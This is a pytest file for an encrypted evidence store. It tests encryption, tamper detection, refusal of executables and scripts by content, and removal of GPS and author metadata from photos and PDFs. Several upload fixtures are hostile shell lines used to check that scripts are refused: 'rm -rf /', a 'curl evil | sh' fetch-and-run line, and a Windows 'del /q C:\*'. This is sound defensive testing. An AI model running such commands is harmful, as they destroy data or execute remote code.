"""comitas_shared.evidence: streaming intake, encryption at rest, verified reads, stripped copies.

Everything runs on the local filesystem backend under tmp_path (the S3 backend has its own tests with an
in-memory client, in test_evidence_s3.py; custody and tables are in test_evidence_custody.py).
"""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import io
import os
import stat
import sys
import time
import tracemalloc
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from fpdf import FPDF
from PIL import ExifTags, Image, PngImagePlugin
from pypdf import PdfReader

from comitas_shared.evidence import (
    DataKey,
    EvidenceEmpty,
    EvidenceIntegrityError,
    EvidenceKeyMismatch,
    EvidenceNotFound,
    EvidencePolicy,
    EvidenceStore,
    EvidenceStripRefused,
    EvidenceTooLarge,
    EvidenceTypeRefused,
    LocalFileStorage,
    StoredEvidence,
    detect_type,
    download_headers,
    open_filename,
    seal_filename,
)
from comitas_shared.evidence.crypto import DEFAULT_SEGMENT_SIZE, TAG_BYTES, sealed_size

SEGMENT = DEFAULT_SEGMENT_SIZE
SEALED_SEGMENT = SEGMENT + TAG_BYTES
KEY = DataKey("complaint-1", 1, bytes(range(32)))
OTHER_KEY = DataKey("complaint-2", 1, bytes(range(1, 33)))
MARKER = b"MARIA-LOPEZ-PASSPORT-X1234567"


async def stream(data: bytes, chunk: int = 65536) -> AsyncIterator[bytes]:
    for start in range(0, len(data), chunk):
        yield data[start:start + chunk]


def files_under(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def make_store(tmp_path: Path, **kwargs: object) -> tuple[EvidenceStore, LocalFileStorage]:
    storage = LocalFileStorage(tmp_path / "evidence" / "intake")
    return EvidenceStore(storage, spool_dir=tmp_path, **kwargs), storage  # type: ignore[arg-type]


async def read_all(store: EvidenceStore, stored: StoredEvidence, key: DataKey = KEY) -> bytes:
    async with await store.open(stored, key=key) as reader:
        return await reader.read()


# -- receiving -------------------------------------------------------------------------------------------

async def test_receive_hashes_encrypts_and_reads_back(tmp_path: Path) -> None:
    store, storage = make_store(tmp_path)
    data = os.urandom(300_000) + MARKER * 1000 + b"%PDF-1.7 not at the start"
    # Uneven chunks, as a network delivers them.
    stored = await store.receive(stream(data, 7_777), key=KEY, filename="statement.bin",
                                 declared_type="application/octet-stream")

    assert stored.sha256 == hashlib.sha256(data).hexdigest()
    assert stored.size == len(data)
    assert (stored.key_id, stored.key_version) == ("complaint-1", 1)
    assert await read_all(store, stored) == data

    path = storage.path_of(stored.storage_key)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(storage.root.stat().st_mode) == 0o700
    assert files_under(storage.root) == [path], "only the object: no temporary file left behind"
    on_disk = path.read_bytes()
    assert len(on_disk) == sealed_size(len(data), binding=stored.storage_key)
    assert MARKER not in on_disk and MARKER[:12] not in on_disk
    assert data[:4096] not in on_disk


async def test_ciphertext_on_disk_holds_no_plaintext_marker(tmp_path: Path) -> None:
    store, storage = make_store(tmp_path)
    data = b"Witness statement of " + MARKER + b"\n" + b"a" * 200_000 + MARKER
    stored = await store.receive(stream(data), key=KEY, filename="w.txt", declared_type="text/plain")
    assert stored.detected_type == "text/plain"
    on_disk = storage.path_of(stored.storage_key).read_bytes()
    assert MARKER not in on_disk
    assert b"Witness statement" not in on_disk
    assert b"a" * 64 not in on_disk


async def test_two_hundred_megabytes_stream_through_in_little_memory(tmp_path: Path) -> None:
    """The acceptance figure: 200 MB received from a stream, the process's traced allocations growing by
    a few hundred kilobytes (a handful of 64 KiB segments), then read back verified."""
    total = 200 * 1024 * 1024
    store, storage = make_store(tmp_path, max_bytes=total)
    base = bytes(range(256)) * 256
    expected = hashlib.sha256()

    async def generated() -> AsyncIterator[bytes]:
        for index in range(total // len(base)):
            # A fresh chunk each time (as a network read is), never the file as a whole.
            chunk = index.to_bytes(8, "big") + base[8:]
            expected.update(chunk)
            yield chunk

    tracemalloc.start()
    try:
        baseline = tracemalloc.get_traced_memory()[0]
        started = time.monotonic()
        stored = await store.receive(generated(), key=KEY, filename="video.bin", declared_type=None)
        upload_seconds = time.monotonic() - started
        upload_peak = tracemalloc.get_traced_memory()[1] - baseline
        tracemalloc.reset_peak()
        baseline = tracemalloc.get_traced_memory()[0]
        started = time.monotonic()
        read_back = hashlib.sha256()
        async with await store.open(stored, key=KEY) as reader:
            async for chunk in reader:
                read_back.update(chunk)
        read_seconds = time.monotonic() - started
        read_peak = tracemalloc.get_traced_memory()[1] - baseline
    finally:
        tracemalloc.stop()

    print(f"\n200 MB: upload {upload_seconds:.1f} s, peak +{upload_peak / 1e6:.2f} MB; "
          f"verified read {read_seconds:.1f} s, peak +{read_peak / 1e6:.2f} MB")
    assert stored.size == total
    assert stored.sha256 == expected.hexdigest()
    assert read_back.hexdigest() == stored.sha256
    assert upload_peak < 20_000_000
    assert read_peak < 20_000_000
    assert storage.path_of(stored.storage_key).stat().st_size == sealed_size(total, binding=stored.storage_key)


async def test_an_executable_renamed_pdf_is_refused_and_nothing_is_stored(tmp_path: Path) -> None:
    store, storage = make_store(tmp_path)
    executable = Path(sys.executable).resolve().read_bytes()
    assert executable.startswith(b"\x7fELF"), "the test interpreter is an ELF binary on Linux"

    with pytest.raises(EvidenceTypeRefused) as refused:
        await store.receive(stream(executable), key=KEY, filename="statement.pdf", declared_type="application/pdf")

    problem = refused.value
    assert problem.status == 422
    assert problem.body()["type"] == "https://comitas.dev/problems/evidence-type-refused"
    assert problem.body()["detected_type"] == "application/x-executable"
    assert "application/x-executable" in problem.body()["detail"]
    assert files_under(tmp_path / "evidence") == []


@pytest.mark.parametrize(("head", "expected"), [
    (b"\x7fELF\x02\x01\x01" + bytes(57), "application/x-executable"),
    (b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\x00\x00" + bytes(64),
     "application/vnd.microsoft.portable-executable"),
    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(100), "application/x-dosexec"),
    (b"MZ Report of the hearing, page 1\n", "text/plain"),
    (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(64), "application/x-mach-binary"),
    (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(64), "application/x-mach-binary"),
    (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64), "application/java-vm"),
    (b"#!/bin/sh\nrm -rf /\n", "text/x-shellscript"),
    (b"#!/usr/bin/env python3\nprint(1)\n", "text/x-python"),
    (b"#!/opt/tool/interp\n", "text/x-script"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "application/pdf"),
    (b"\x89PNG\r\n\x1a\n" + bytes(32), "image/png"),
    ("Témoignage — déclaration\n".encode(), "text/plain"),
    (bytes([0, 1, 2, 3, 250, 251, 252]) * 10, "application/octet-stream"),
])
def test_types_are_told_from_the_content(head: bytes, expected: str) -> None:
    assert detect_type(head) == expected


async def test_a_shell_script_is_refused_whatever_its_name(tmp_path: Path) -> None:
    store, _ = make_store(tmp_path)
    with pytest.raises(EvidenceTypeRefused) as refused:
        await store.receive(stream(b"#!/bin/bash\ncurl evil | sh\n"), key=KEY, filename="photo.jpg",
                            declared_type="image/jpeg")
    assert refused.value.body()["detected_type"] == "text/x-shellscript"
    assert files_under(tmp_path / "evidence") == []


async def test_names_windows_runs_are_refused_even_as_text(tmp_path: Path) -> None:
    store, _ = make_store(tmp_path)
    with pytest.raises(EvidenceTypeRefused) as refused:
        await store.receive(stream(b"del /q C:\\*\r\n"), key=KEY, filename="C:\\Users\\m\\notes.BAT",
                            declared_type="text/plain")
    assert refused.value.body()["extension"] == ".bat"
    assert refused.value.body()["detected_type"] == "text/plain"


async def test_a_policy_can_accept_only_a_list(tmp_path: Path) -> None:
    store, _ = make_store(tmp_path, policy=EvidencePolicy(allowed_types=frozenset({"application/pdf"})))
    with pytest.raises(EvidenceTypeRefused):
        await store.receive(stream(b"just text"), key=KEY, filename="a.txt", declared_type=None)
    stored = await store.receive(stream(b"%PDF-1.4\n1 0 obj\n"), key=KEY, filename="a.pdf", declared_type=None)
    assert stored.detected_type == "application/pdf"


async def test_an_empty_file_is_refused(tmp_path: Path) -> None:
    store, _ = make_store(tmp_path)
    with pytest.raises(EvidenceEmpty):
        await store.receive(stream(b""), key=KEY, filename="empty.txt", declared_type=None)
    allowing, _ = make_store(tmp_path / "allowing", policy=EvidencePolicy(allow_empty=True))
    stored = await allowing.receive(stream(b""), key=KEY, filename="empty.txt", declared_type=None)
    assert stored.size == 0 and stored.sha256 == hashlib.sha256(b"").hexdigest()
    assert await read_all(allowing, stored) == b""


@pytest.mark.parametrize("limit", [10_000, 300_000])
async def test_over_the_limit_stops_reading_and_leaves_nothing(tmp_path: Path, limit: int) -> None:
    """Both within the head (nothing written yet) and part-way through writing (temporary file removed)."""
    store, _ = make_store(tmp_path, max_bytes=limit)
    pulled = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal pulled
        while True:
            pulled += 1
            yield b"\x00evidence" * 1000

    with pytest.raises(EvidenceTooLarge) as too_large:
        await store.receive(endless(), key=KEY, filename="big.bin", declared_type=None)
    assert too_large.value.status == 413
    assert too_large.value.body()["type"] == "https://comitas.dev/problems/evidence-too-large"
    assert pulled * 9000 <= limit + 9000, "reading stopped at the limit"
    assert files_under(tmp_path / "evidence") == []

    # Exactly at the limit is accepted.
    stored = await store.receive(stream(b"x" * limit), key=KEY, filename="ok.txt", declared_type=None)
    assert stored.size == limit


async def test_a_failing_stream_leaves_nothing(tmp_path: Path) -> None:
    store, _ = make_store(tmp_path)

    async def broken() -> AsyncIterator[bytes]:
        yield b"a" * 200_000
        raise ConnectionResetError("client went away")

    with pytest.raises(ConnectionResetError):
        await store.receive(broken(), key=KEY, filename="x.txt", declared_type=None)
    assert files_under(tmp_path / "evidence") == []


# -- reading back ----------------------------------------------------------------------------------------

DATA = bytes(range(256)) * 1200 + MARKER  # 307 229 bytes: four full segments and a short final one


async def stored_object(tmp_path: Path) -> tuple[EvidenceStore, LocalFileStorage, StoredEvidence, Path]:
    store, storage = make_store(tmp_path)
    stored = await store.receive(stream(DATA), key=KEY, filename="d.bin", declared_type=None)
    return store, storage, stored, storage.path_of(stored.storage_key)


def split(blob: bytes, stored: StoredEvidence) -> tuple[bytes, list[bytes]]:
    segments = -(-stored.size // SEGMENT)
    header_size = len(blob) - stored.size - segments * TAG_BYTES
    header, body = blob[:header_size], blob[header_size:]
    return header, [body[i:i + SEALED_SEGMENT] for i in range(0, len(body), SEALED_SEGMENT)]


def flip(blob: bytes, at: int) -> bytes:
    return blob[:at] + bytes([blob[at] ^ 0x01]) + blob[at + 1:]


def tampered(kind: str, blob: bytes, stored: StoredEvidence) -> bytes:
    header, segments = split(blob, stored)
    assert len(segments) == 5
    if kind == "flipped byte":
        return flip(blob, len(header) + 2 * SEALED_SEGMENT + 100)
    if kind == "flipped tag byte":
        return flip(blob, len(blob) - 1)
    if kind == "flipped header byte":
        return flip(blob, 10)
    if kind == "dropped segment":
        return header + b"".join(segments[:1] + segments[2:])
    if kind == "reordered segments":
        return header + b"".join([segments[0], segments[2], segments[1], *segments[3:]])
    if kind == "repeated segment":
        return header + b"".join([segments[0], segments[0], *segments[1:]])
    if kind == "truncated at a segment boundary":
        return header + b"".join(segments[:4])
    if kind == "truncated inside a segment":
        return blob[:len(header) + 3 * SEALED_SEGMENT + 5000]
    if kind == "truncated inside the header":
        return blob[:40]
    if kind == "bytes appended":
        return blob + b"\x00" * 32
    raise AssertionError(kind)


@pytest.mark.parametrize("kind", [
    "flipped byte", "flipped tag byte", "flipped header byte", "dropped segment", "reordered segments",
    "repeated segment", "truncated at a segment boundary", "truncated inside a segment",
    "truncated inside the header", "bytes appended",
])
async def test_an_altered_object_fails_before_the_first_byte(tmp_path: Path, kind: str) -> None:
    store, _, stored, path = await stored_object(tmp_path)
    path.write_bytes(tampered(kind, path.read_bytes(), stored))

    with pytest.raises(EvidenceIntegrityError) as failed:
        await store.open(stored, key=KEY)
    assert failed.value.status == 500

    # The streaming variant fails too, at the latest before its last segment is handed on.
    received = bytearray()
    reader = await store.open_streaming(stored, key=KEY)
    with pytest.raises(EvidenceIntegrityError):
        async for chunk in reader:
            received += chunk
    assert len(received) < len(DATA)
    assert DATA.startswith(bytes(received))


async def test_streaming_may_have_sent_bytes_when_it_fails_verify_first_has_not(tmp_path: Path) -> None:
    """Why downloads use open(): a late failure of the streaming variant comes after bytes went out."""
    store, _, stored, path = await stored_object(tmp_path)
    _, segments = split(path.read_bytes(), stored)
    path.write_bytes(flip(path.read_bytes(), len(path.read_bytes()) - len(segments[-1]) - 50))  # segment 3

    received = bytearray()
    with pytest.raises(EvidenceIntegrityError, match="segment 3"):
        async for chunk in await store.open_streaming(stored, key=KEY):
            received += chunk
    assert len(received) == 3 * SEGMENT

    with pytest.raises(EvidenceIntegrityError, match="segment 3"):
        await store.open(stored, key=KEY)


async def test_a_recorded_hash_that_does_not_match_fails(tmp_path: Path) -> None:
    store, _, stored, _ = await stored_object(tmp_path)
    wrong = dataclasses.replace(stored, sha256=hashlib.sha256(b"another file").hexdigest())
    with pytest.raises(EvidenceIntegrityError, match="SHA-256"):
        await store.open(wrong, key=KEY)
    shorter = dataclasses.replace(stored, size=stored.size - 1)
    with pytest.raises(EvidenceIntegrityError):
        await store.open(shorter, key=KEY)


async def test_an_object_swapped_onto_another_key_fails(tmp_path: Path) -> None:
    """Two files of one complaint share its key; the object is bound to its storage key all the same."""
    store, storage = make_store(tmp_path)
    first = await store.receive(stream(b"first file " * 100), key=KEY, filename="a.txt", declared_type=None)
    second = await store.receive(stream(b"second file " * 100), key=KEY, filename="b.txt", declared_type=None)
    storage.path_of(second.storage_key).write_bytes(storage.path_of(first.storage_key).read_bytes())
    with pytest.raises(EvidenceIntegrityError, match="another storage key"):
        await store.open(second, key=KEY)


async def test_the_wrong_key_is_named_as_such(tmp_path: Path) -> None:
    store, _, stored, _ = await stored_object(tmp_path)
    with pytest.raises(EvidenceKeyMismatch, match="recorded under key"):
        await store.open(stored, key=OTHER_KEY)
    unrecorded = dataclasses.replace(stored, key_id=None, key_version=None)
    with pytest.raises(EvidenceKeyMismatch, match="key commitment"):
        await store.open(unrecorded, key=OTHER_KEY)


async def test_a_deleted_object_is_not_found(tmp_path: Path) -> None:
    store, storage, stored, path = await stored_object(tmp_path)
    assert await storage.exists(stored.storage_key)
    await store.delete(stored)
    assert not path.exists() and not await storage.exists(stored.storage_key)
    with pytest.raises(EvidenceNotFound):
        await store.open(stored, key=KEY)
    await store.delete(stored)  # deleting twice is not an error


async def test_a_verified_reader_closed_early_leaves_no_spool(tmp_path: Path) -> None:
    store, _, stored, _ = await stored_object(tmp_path)
    spool_dir = tmp_path / "spool"
    spool_dir.mkdir()
    store.spool_dir = spool_dir
    async with await store.open(stored, key=KEY) as reader:
        first = await anext(aiter(reader))
        assert first == DATA[:SEGMENT]
        # The spool is an unnamed file: nothing to find in its directory even while it is in use.
        assert list(spool_dir.iterdir()) == []


def test_download_headers_make_an_attachment_that_is_never_sniffed() -> None:
    stored = StoredEvidence(storage_key="k" * 32, size=12, sha256="ab" * 32, detected_type="text/html")
    headers = download_headers(stored, filename='témoin "1".html')
    assert headers["Content-Type"] == "application/octet-stream"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Disposition"].startswith('attachment; filename="t_moin _1_.html"')
    assert "filename*=UTF-8''t%C3%A9moin%20%221%22.html" in headers["Content-Disposition"]
    assert headers["Content-Length"] == "12"
    assert headers["Repr-Digest"] == "sha-256=:" + base64.b64encode(bytes.fromhex("ab" * 32)).decode() + ":"


def test_file_names_are_sealed_under_the_data_key() -> None:
    sealed = seal_filename(KEY, "passport_maria_lopez.jpg", binding="item-1")
    assert "maria" not in sealed
    assert open_filename(KEY, sealed, binding="item-1") == "passport_maria_lopez.jpg"
    with pytest.raises(EvidenceIntegrityError):
        open_filename(KEY, sealed, binding="item-2")
    with pytest.raises(EvidenceIntegrityError):
        open_filename(OTHER_KEY, sealed, binding="item-1")


# -- stripped copies -------------------------------------------------------------------------------------

XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Maria Lopez"/></rdf:RDF>'
       b'</x:xmpmeta>')


def photo_with_gps(image_format: str = "JPEG") -> bytes:
    image = Image.new("RGB", (64, 48), (200, 30, 30))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Artist] = "Maria Lopez"
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N", ExifTags.GPS.GPSLatitude: (48.0, 51.0, 29.0),
        ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (2.0, 21.0, 5.0),
    }
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, xmp=XMP)
    if image_format == "JPEG":
        return out.getvalue()
    # Other formats take the EXIF block as read from a real file (Pillow writes TIFF's GPS IFD only so).
    loaded = Image.open(io.BytesIO(out.getvalue())).getexif()
    options: dict[str, object] = {"exif": loaded}
    if image_format == "WEBP":
        options["xmp"] = XMP
    if image_format == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Author", "Maria Lopez")
        info.add_itxt("XML:com.adobe.xmp", XMP.decode())
        options["pnginfo"] = info
    out = io.BytesIO()
    image.save(out, image_format, **options)
    return out.getvalue()


async def test_a_jpeg_copy_loses_its_gps_and_exif(tmp_path: Path) -> None:
    store, _ = make_store(tmp_path)
    original = photo_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo), "the original has GPS"
    stored = await store.receive(stream(original), key=KEY, filename="IMG_0001.jpg", declared_type="image/jpeg")
    assert stored.detected_type == "image/jpeg"

    copy = await store.strip_copy(stored, key=KEY)

    assert copy.stripped and copy.note is None
    assert {"exif", "gps", "xmp"} <= set(copy.removed)
    assert copy.original_sha256 == stored.sha256 == hashlib.sha256(original).hexdigest()
    assert copy.sha256 != copy.original_sha256
    assert copy.stored.storage_key != stored.storage_key
    data = await read_all(store, copy.stored)
    assert hashlib.sha256(data).hexdigest() == copy.sha256
    image = Image.open(io.BytesIO(data))
    assert image.format == "JPEG"
    assert dict(image.getexif()) == {}
    assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert "exif" not in image.info and "xmp" not in image.info
    assert b"Exif\x00\x00" not in data and b"Maria" not in data and b"PhoneMaker" not in data
    assert image.size == (48, 64), "turned upright by its EXIF orientation before the tag was dropped"
    # The original is untouched.
    assert await read_all(store, stored) == original


@pytest.mark.parametrize(("image_format", "content_type"), [
    ("PNG", "image/png"), ("TIFF", "image/tiff"), ("WEBP", "image/webp"),
])
async def test_other_image_copies_lose_their_metadata(tmp_path: Path, image_format: str, content_type: str) -> None:
    store, _ = make_store(tmp_path)
    original = photo_with_gps(image_format)
    assert b"Maria" in original
    stored = await store.receive(stream(original), key=KEY, filename="p", declared_type=None)
    assert stored.detected_type == content_type
    copy = await store.strip_copy(stored, key=KEY)
    data = await read_all(store, copy.stored)
    image = Image.open(io.BytesIO(data))
    assert image.format == image_format
    assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert b"Maria" not in data and b"PhoneMaker" not in data
    assert "gps" in copy.removed and copy.sha256 != copy.original_sha256


async def test_a_pdf_copy_loses_its_author_and_xmp(tmp_path: Path) -> None:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Medical report")
    pdf.set_author("Maria Lopez")
    pdf.set_creator("Clinic Records System")
    pdf.set_xmp_metadata(XMP.decode())
    original = bytes(pdf.output())
    assert PdfReader(io.BytesIO(original)).metadata.author == "Maria Lopez"

    store, _ = make_store(tmp_path)
    stored = await store.receive(stream(original), key=KEY, filename="report.pdf", declared_type="application/pdf")
    copy = await store.strip_copy(stored, key=KEY)

    data = await read_all(store, copy.stored)
    reader = PdfReader(io.BytesIO(data))
    assert not reader.metadata or reader.metadata.author is None
    assert "/Metadata" not in reader.trailer["/Root"]
    assert b"Maria" not in data and b"Clinic Records" not in data
    assert reader.pages[0].extract_text() == "Medical report"
    assert {"document_info", "pdf_xmp"} <= set(copy.removed)
    assert copy.sha256 != copy.original_sha256 and copy.original_sha256 == hashlib.sha256(original).hexdigest()


async def test_other_types_are_copied_as_they_are_with_a_note(tmp_path: Path) -> None:
    store, _ = make_store(tmp_path)
    text = b"Statement. " * 20_000
    stored = await store.receive(stream(text), key=KEY, filename="s.txt", declared_type="text/plain")
    copy = await store.strip_copy(stored, key=KEY)
    assert not copy.stripped and copy.removed == ()
    assert copy.note is not None and "no metadata stripping" in copy.note
    assert copy.sha256 == copy.original_sha256
    assert copy.stored.storage_key != stored.storage_key
    assert await read_all(store, copy.stored) == text


async def test_a_strippable_file_that_cannot_be_stripped_is_refused_not_copied(tmp_path: Path) -> None:
    store, _ = make_store(tmp_path, max_strip_bytes=1000)
    stored = await store.receive(stream(photo_with_gps()), key=KEY, filename="p.jpg", declared_type=None)
    with pytest.raises(EvidenceStripRefused):
        await store.strip_copy(stored, key=KEY)
    store.max_strip_bytes = 10_000_000
    broken = await store.receive(stream(b"%PDF-1.7\n" + b"garbage" * 50), key=KEY, filename="b.pdf",
                                 declared_type=None)
    with pytest.raises(EvidenceStripRefused):
        await store.strip_copy(broken, key=KEY)
    before = {p.name for p in files_under(tmp_path / "evidence")}
    assert len(before) == 2, "no copy was stored"
